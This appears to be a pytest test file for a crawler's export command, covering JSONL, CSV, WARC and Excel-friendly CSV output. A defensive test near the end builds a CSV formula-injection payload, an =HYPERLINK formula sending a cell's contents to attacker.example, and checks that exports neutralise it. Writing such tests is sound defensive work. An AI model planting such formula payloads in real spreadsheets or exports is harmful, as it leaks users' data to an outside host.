"""Exports: JSONL and CSV with the same columns, filters, WARC checked by warcio, and no
half-written files."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import pytest_twisted
from warcio.archiveiterator import ArchiveIterator

from crawler.errors import OutputError
from crawler.outputs.atomic_file import output
from tests.helpers import PUTIN, RELATED, crawl_here, system_tool
from tests.server import Reply, page


def jsonl(invoke, db, *args):
    result = invoke("export", "--db", str(db), *args)
    assert result.exit_code == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_export_jsonl_to_a_file(invoke, seed_twice, server, tmp_path):
    out = tmp_path / "snapshots.jsonl"
    result = invoke("export", "--db", str(seed_twice), "--format", "jsonl", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert result.stderr.strip() == f"3 snapshots written to {out}"
    records = [json.loads(line) for line in out.read_text().splitlines()]
    by_url = {record["url"]: record for record in records}
    putin = by_url[server.url(PUTIN)]
    assert list(putin) == [
        "url", "canonical_url", "final_url", "redirects", "fetched_at", "status",
        "content_type", "title", "author", "date", "sitename", "language", "text",
        "body_sha256", "body_size", "text_sha256", "ip_address", "headers", "metadata",
        "documents", "change", "reasons", "page_text", "origin", "archive", "memento_uri",
        "memento_datetime"]
    assert putin["fetched_at"].endswith("Z") and putin["status"] == 200
    assert putin["title"].startswith("Putin Offers") and len(putin["body_sha256"]) == 64
    [cited_by] = putin["documents"]
    assert list(cited_by) == ["id", "path", "role", "anchor", "written"]
    assert cited_by["role"] == "original" and cited_by["path"].endswith("moscow-times.txt")
    assert by_url[server.url(RELATED)]["documents"][0]["role"] == "related"
    assert [record["url"] for record in jsonl(invoke, seed_twice)] == [
        record["url"] for record in records]


def test_csv_has_the_jsonl_columns_and_quotes_text(invoke, seed_twice):
    records = jsonl(invoke, seed_twice)
    result = invoke("export", "--db", str(seed_twice), "--format", "csv")
    table = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(table) == len(records) == 3
    assert list(table[0]) == list(records[0])
    for row, record in zip(table, records, strict=True):
        assert row["text"] == record["text"] and "\n" in row["text"]
        assert json.loads(row["documents"]) == record["documents"]
        assert row["status"] == str(record["status"])


def test_filters(invoke, seed_twice, server, documents):
    related = server.url(RELATED)
    assert len(jsonl(invoke, seed_twice, "--url", related)) == 2
    [latest] = jsonl(invoke, seed_twice, "--url", related, "--latest")
    assert "welcome in Moscow" in latest["text"]
    assert len(jsonl(invoke, seed_twice, "--latest")) == 2
    assert len(jsonl(invoke, seed_twice, "--document",
                     str(documents / "moscow-times.txt"))) == 3
    assert jsonl(invoke, seed_twice, "--until", "2000-01-01") == []
    assert len(jsonl(invoke, seed_twice, "--since", "2000-01-01")) == 3
    missing = invoke("export", "--db", str(seed_twice), "--url", server.url("/nope"))
    assert missing.exit_code == 1
    assert missing.stderr.strip() == f"sourcekeeper: {server.url('/nope')}: not in the archive"
    bad = invoke("export", "--db", str(seed_twice), "--since", "yesterday")
    assert bad.exit_code == 2 and "not an ISO date" in bad.stderr


def test_failed_export_leaves_the_previous_file(tmp_path):
    target = tmp_path / "out.jsonl"
    target.write_text("previous export\n")
    with pytest.raises(RuntimeError):
        with output(str(target)) as stream:
            stream.write("half")
            raise RuntimeError("interrupted")
    assert target.read_text() == "previous export\n"
    assert list(tmp_path.iterdir()) == [target]
    with pytest.raises(OutputError, match="No such file or directory"):
        with output(str(tmp_path / "missing" / "out.jsonl")):
            pass


def test_unwritable_destination_is_one_line(invoke, seed_twice, tmp_path):
    target = tmp_path / "missing" / "out.jsonl"
    result = invoke("export", "--db", str(seed_twice), "-o", str(target))
    assert result.exit_code == 1
    assert result.stderr.strip() == (
        f"sourcekeeper: cannot write {target}: No such file or directory")


@pytest_twisted.async_fixture
async def with_mirror(documents, server, tmp_path):
    """Every fixture document crawled; the same page under a second URL gives a revisit
    record, and /loneliest is gzip-encoded."""
    server.route("/copy", page("putin-offers.html"))
    doc = documents / "notes.md"
    doc.write_text(doc.read_text() + f"\nA mirror: {server.url('/copy')}\n")
    db = tmp_path / "archive.db"
    assert (await crawl_here(db, [documents])).finished
    return db


def test_warc_export_passes_warcio_check(invoke, with_mirror, server, tmp_path):
    warc = tmp_path / "out.warc.gz"
    result = invoke("export", "--db", str(with_mirror), "--format", "warc", "-o", str(warc))
    assert result.exit_code == 0, result.stderr

    warcio = shutil.which("warcio", path=str(Path(sys.executable).parent))
    check = subprocess.run([warcio, "check", "-v", str(warc)], capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    assert "digest pass" in check.stdout and "digest fail" not in check.stdout
    index = subprocess.run([warcio, "index", str(warc)], capture_output=True, text=True)
    assert index.returncode == 0 and index.stdout.count("\n") > 10

    records = []
    with warc.open("rb") as stream:
        for record in ArchiveIterator(stream):
            records.append((record.rec_type, record.rec_headers.get_header("WARC-Target-URI"),
                            record.rec_headers, record.http_headers,
                            record.content_stream().read()))
    kinds = [kind for kind, *_ in records]
    # 8 snapshots; /copy repeats the Putin page and /flaky the related one: 2 revisits;
    # /old/maudlin redirected once: its 301 is a response and a request of its own.
    assert kinds[0] == "warcinfo" and kinds.count("revisit") == 2
    assert kinds.count("response") == 7 and kinds.count("request") == 9
    hop = [(http, body) for kind, uri, _, http, body in records
           if kind == "response" and uri == server.url("/old/maudlin")]
    assert [(http.get_statuscode(), http.get_header("Location"), body) for http, body in hop] == [
        ("301", "/words/maudlin.html", b"")]
    pages = {"response", "revisit", "request"}
    assert all(uri.startswith("urn:sourcekeeper:") for kind, uri, *_ in records
               if kind not in pages | {"warcinfo"}), "only captures carry a page's URI"
    revisits = [headers for kind, _, headers, *_ in records if kind == "revisit"]
    assert all(h.get_header("WARC-Profile").endswith("identical-payload-digest")
               and h.get_header("WARC-Refers-To") for h in revisits)
    responses = {uri: (http, body) for kind, uri, _, http, body in records if kind == "response"}
    http, body = responses[server.url(PUTIN)]
    assert http.get_statuscode() == "200" and b"welcome in Moscow" in body
    http, body = responses[server.url("/loneliest")]
    assert http.get_header("Content-Encoding") == "gzip", "raw body as received"
    assert body.startswith(b"<"), "warcio decodes the stored gzip payload"
    by_id = {headers.get_header("WARC-Record-ID"): (kind, uri)
             for kind, uri, headers, *_ in records}
    conversions = [(headers, body) for kind, _, headers, _, body in records
                   if kind == "conversion"]
    assert conversions and all(by_id[h.get_header("WARC-Refers-To")][0] in ("response", "revisit")
                               for h, _ in conversions)
    [meta] = [json.loads(body) for kind, uri, _, _, body in records
              if kind == "metadata" and uri == "urn:sourcekeeper:metadata:" + server.url(PUTIN)]
    assert meta["title"].startswith("Putin Offers") and meta["documents"][0]["role"]


def test_times_are_checked_through_the_api_too(seed_twice):
    from crawler import api
    from crawler.errors import InvalidTime

    with pytest.raises(InvalidTime, match="'yesterday' is not an ISO date or date-time"):
        api.export(format="jsonl", db=str(seed_twice), since="yesterday")
    with pytest.raises(InvalidTime, match="'last week' is not an ISO date"):
        api.diff("http://nowhere.example/", db=str(seed_twice), since="last week")


def test_export_checks_lists_failures_too(invoke, crawled, server, tmp_path):
    out = tmp_path / "checks.jsonl"
    result = invoke("export", "--db", str(crawled), "--checks", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    checks = [json.loads(line) for line in out.read_text().splitlines()]
    assert result.stderr.strip() == f"{len(checks)} checks written to {out}"
    [gone] = [check for check in checks if check["url"] == server.url("/gone")]
    assert (gone["outcome"], gone["status"], gone["reason"]) == (
        "failed", 404, "HTTP 404 Not Found")
    [moved] = [check for check in checks if check["url"] == server.url("/old/maudlin")]
    assert [hop["status"] for hop in moved["redirects"]] == [301]
    warc = invoke("export", "--db", str(crawled), "--checks", "--format", "warc", "-o",
                  str(tmp_path / "x.warc.gz"))
    assert warc.exit_code == 2 and "not as WARC" in warc.stderr


def test_export_csv_for_excel(invoke, crawled, tmp_path):
    from crawler.outputs.exporters import EXCEL_CELL

    out = tmp_path / "excel.csv"
    result = invoke("export", "--db", str(crawled), "--format", "csv", "--excel", "-o",
                    str(out))
    assert result.exit_code == 0, result.stderr
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows and all(len(value) <= EXCEL_CELL for row in rows for value in row.values())
    assert invoke("export", "--db", str(crawled), "--excel").exit_code == 2


def test_excel_csv_opens_in_libreoffice_as_written(invoke, crawled, tmp_path):
    """The file a person double-clicks: LibreOffice Calc (headless) opens it as UTF-8 with
    its byte-order mark, and every cell, multi-line article text and non-ASCII included,
    reads back as exported."""
    soffice = system_tool("soffice", "libreoffice-calc-nogui")
    out = tmp_path / "excel.csv"
    assert invoke("export", "--db", str(crawled), "--format", "csv", "--excel", "-o",
                  str(out)).exit_code == 0
    written = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    utf8 = "Text - txt - csv (StarCalc):44,34,76,1"
    converted = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
         f"--infilter={utf8}", "--convert-to", f"csv:{utf8}", "--outdir",
         str(tmp_path / "calc"), str(out)], capture_output=True, text=True, timeout=180)
    assert converted.returncode == 0, converted.stderr
    read = list(csv.reader(io.StringIO((tmp_path / "calc" / "excel.csv").read_text("utf-8"))))
    assert read[0] == written[0], "the header, without a stray byte-order mark"
    assert len(read) == len(written) > 2
    differ = [(row[0], column, mine[:60], theirs[:60])
              for row, calc in zip(written, read, strict=True)
              for column, (mine, theirs) in enumerate(zip(row, calc, strict=False))
              if mine != theirs and not _same_number(mine, theirs)]
    assert differ == []
    assert any("\n" in cell for row in read for cell in row), "multi-line cells kept whole"


def _same_number(mine: str, theirs: str) -> bool:
    """Calc shows numbers its own way (1 for 1.0)."""
    try:
        return float(mine) == float(theirs)
    except ValueError:
        return False


HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/leak?"&A2,"Open source")'


@pytest_twisted.async_fixture
async def hostile(server, tmp_path):
    """A page whose title and a document whose link text are spreadsheet formulas."""
    server.route("/trap", Reply(200, (
        f"<html><head><title>{HOSTILE_TITLE}</title></head><body><article><p>"
        + "An ordinary article about the council budget and its many line items. " * 20
        + "</p></article></body></html>").encode(), {"Content-Type": "text/html"}))
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "note.md").write_text(
        f"Budget notes.\n\nSee [=1+1]({server.url('/trap')}) and "
        f"[@SUM(A1:A9)]({server.url('/gone')}).\n")
    db = tmp_path / "archive.db"
    assert (await crawl_here(db, [tmp_path / "docs"])).finished
    return db


def _formula_cells(soffice: str, csv_file: Path, tmp_path: Path) -> list[str]:
    """What LibreOffice Calc makes formulas of when it opens ``csv_file``."""
    import re
    import zipfile

    utf8 = "Text - txt - csv (StarCalc):44,34,76,1"
    converted = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
         f"--infilter={utf8}", "--convert-to", "ods", "--outdir", str(tmp_path / "ods"),
         str(csv_file)], capture_output=True, text=True, timeout=180)
    assert converted.returncode == 0, converted.stderr
    with zipfile.ZipFile(tmp_path / "ods" / (csv_file.stem + ".ods")) as ods:
        content = ods.read("content.xml").decode()
    assert "Open source" in content or "SUM" in content, "the hostile cells are there"
    return re.findall(r'table:formula="([^"]*)"', content)


@pytest.mark.parametrize("command", [
    ("export", "--format", "csv"), ("export", "--format", "csv", "--excel"),
    ("report", "--format", "csv")])
def test_csv_cells_never_become_formulas(invoke, hostile, tmp_path, command):
    soffice = system_tool("soffice", "libreoffice-calc-nogui")
    out = tmp_path / f"{command[0]}.csv"
    result = invoke(*command, "--db", str(hostile), "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert _formula_cells(soffice, out, tmp_path) == []
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    cells = {value for row in rows for value in row.values()}
    assert (f"'{HOSTILE_TITLE}" in cells) or ("'=1+1" in cells), "kept, as text"
